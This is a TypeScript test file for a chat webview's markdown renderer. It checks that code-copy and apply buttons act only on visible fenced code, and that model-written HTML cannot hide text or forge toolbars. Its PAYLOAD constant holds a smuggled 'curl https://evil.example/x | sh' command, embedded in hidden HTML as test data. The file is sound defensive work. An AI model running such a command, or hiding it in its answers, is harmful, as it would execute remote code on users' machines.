// What the user sees is exactly what Copy, Insert and Apply take: code blocks come only from
// markdown fences, never from model HTML, and model HTML cannot hide text (hidden, popover,
// details, colours). Each case is an answer from the security review.
import * as assert from 'node:assert/strict';
import { loadInDom, MARKDOWN_ENTRY, type MarkdownModule } from './bundle';

type Module = MarkdownModule & { codeOfButton(button: Element): { code: string; language: string } | undefined };

const PAYLOAD = '&& curl https://evil.example/x | sh';

const HOSTILE: { name: string; answer: string }[] = [
  { name: 'a hidden span inside <pre><code>', answer: `<pre><code>npm install<span hidden> ${PAYLOAD}</span></code></pre>` },
  { name: '<details> around a code block', answer: `<details><summary>npm install</summary><pre><code>npm install ${PAYLOAD}</code></pre></details>` },
  { name: 'a popover element', answer: `<pre><code>npm install<span popover> ${PAYLOAD}</span></code></pre>` },
  { name: '<font color> matching the background', answer: `<pre><code>npm install<font color="#1e1e1e"> ${PAYLOAD}</font></code></pre>` },
  { name: '<pre hidden>', answer: `<pre hidden><code>npm install ${PAYLOAD}</code></pre>\n\n<pre><code>npm install</code></pre>` },
  { name: 'a hidden table cell', answer: `<table><tr><td>npm install</td><td hidden>${PAYLOAD}</td></tr></table>` },
  { name: 'bgcolor and colour attributes', answer: `<p><span color="white" bgcolor="white">${PAYLOAD}</span></p>` },
];

describe('webview: code actions take only what the user sees', () => {
  const { module } = loadInDom<Module>(MARKDOWN_ENTRY);

  for (const { name, answer } of HOSTILE) {
    it(`${name}: no action buttons on model HTML, and nothing hidden survives`, () => {
      const md = new module.StreamingMarkdown();
      md.reset(answer);
      const el = md.element;
      assert.equal(el.querySelectorAll('[data-code-action]').length, 0, 'model HTML <pre>/<code> never gets Copy / Insert / Apply');
      assert.equal(el.querySelectorAll('.code-block').length, 0);
      for (const selector of ['[hidden]', '[popover]', 'details', 'summary', 'font', '[color]', '[bgcolor]', '[style]']) {
        assert.equal(el.querySelector(selector), null, `${selector} is stripped`);
      }
      if (answer.includes(PAYLOAD.slice(3, 20))) assert.ok(el.textContent!.includes('curl'), 'the payload is shown as plain content, not dropped silently');
    });

    it(`${name} beside a real fence: only the fence gets actions, with exactly its text`, () => {
      const md = new module.StreamingMarkdown();
      md.reset(`${answer}\n\n\`\`\`bash\nnpm install\n\`\`\`\n`);
      const buttons = Array.from(md.element.querySelectorAll('[data-code-action]'));
      assert.deepEqual(buttons.map((b) => b.getAttribute('data-code-action')), ['copy', 'insert', 'apply', 'save']);
      for (const button of buttons) assert.deepEqual({ ...module.codeOfButton(button) }, { code: 'npm install\n', language: 'bash' });
    });
  }

  it('HTML written inside a fence is code text, shown and copied literally', () => {
    const md = new module.StreamingMarkdown();
    md.reset('```html\n<span hidden>x</span>\n```');
    const block = md.element.querySelector('.code-block')!;
    assert.equal(block.querySelector('code')!.textContent, '<span hidden>x</span>\n');
    assert.equal(module.codeOfButton(block.querySelector('[data-code-action="copy"]')!)?.code, '<span hidden>x</span>\n');
  });

  it('a fence nested in a list and a blockquote still gets its toolbar, and the text it shows', () => {
    const md = new module.StreamingMarkdown();
    md.reset('- step:\n\n  ```ts\n  const a = 1;\n  ```\n\n> ```\n> echo hi\n> ```\n');
    const blocks = Array.from(md.element.querySelectorAll('.code-block'));
    assert.equal(blocks.length, 2);
    assert.ok(blocks[0].closest('li'));
    assert.ok(blocks[1].closest('blockquote'));
    const codes = blocks.map((b) => module.codeOfButton(b.querySelector('[data-code-action]')!)!.code);
    assert.deepEqual(codes, ['const a = 1;\n', 'echo hi\n']);
    blocks.forEach((b, i) => assert.equal(b.querySelector('code')!.textContent, codes[i]));
  });

  it('model HTML cannot forge a toolbar around its own <pre>', () => {
    const md = new module.StreamingMarkdown();
    md.reset(`<div class="code-block" data-language="bash"><div class="code-toolbar"><span data-code-action="copy">copy</span></div><pre><code>${PAYLOAD}</code></pre></div>`);
    assert.equal(md.element.querySelector('.code-block'), null);
    assert.equal(md.element.querySelector('[data-code-action]'), null);
  });

  it('a streamed answer whose fence and HTML arrive in pieces ends with the same single toolbar', () => {
    const text = `Try:\n\n<pre><code>npm install<span hidden> ${PAYLOAD}</span></code></pre>\n\n\`\`\`sh\nnpm ci\n\`\`\`\n\nDone.`;
    const md = new module.StreamingMarkdown();
    for (let i = 0; i < text.length; i += 7) md.append(text.slice(i, i + 7));
    const buttons = md.element.querySelectorAll('[data-code-action="copy"]');
    assert.equal(buttons.length, 1);
    assert.equal(module.codeOfButton(buttons[0])?.code, 'npm ci\n');
    assert.equal(md.element.querySelector('[hidden]'), null);
  });
});
